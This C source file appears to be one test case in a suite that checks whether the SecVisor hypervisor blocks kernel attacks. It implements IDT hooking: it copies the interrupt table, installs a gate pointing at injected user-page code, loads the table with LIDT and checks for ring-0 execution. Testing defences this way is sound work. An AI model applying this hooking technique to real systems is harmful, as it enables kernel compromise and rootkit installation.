// Row 8. The IDT moved to a copy with one gate of the attacker's (LIDT).
// Source: IDT hooking (kad, Phrack 59-4).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

ATTACK("idt-moved")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u8 entry[16];
	long result;
	u8 *page = user_page();
	u64 handler = (u64)page;

	memcpy(page, "\xb8\x37\x13\0\0\x48\xcf", 7); // mov eax, 0x1337; iretq
	make_executable(handler);
	prepare_entry();
	if (try_operate(&op))
		failed("no tables");
	interrupt_gate(entry, handler, 2);
	unprotect();
	u64 table = kernel_page();
	for (u64 i = 0; i < 512; i++)
		operate(VULNERABLE_STORE, table + 8 * i, kread64(op.out[0] + 8 * i), 8);
	kwrite(table + 0x81 * 16, entry, sizeof(entry));
	about_to("take an interrupt by an IDT of our own");
	operate(VULNERABLE_LIDT, table, 4095, 0);
	result = interrupt_prepared();
	operate(VULNERABLE_LIDT, op.out[0], op.out[2] & 0xffff, 0);
	if (result == MARK)
		succeeded("INT 81h ran our handler at CPL 0");
	failed("INT 81h returned %ld", result);
}
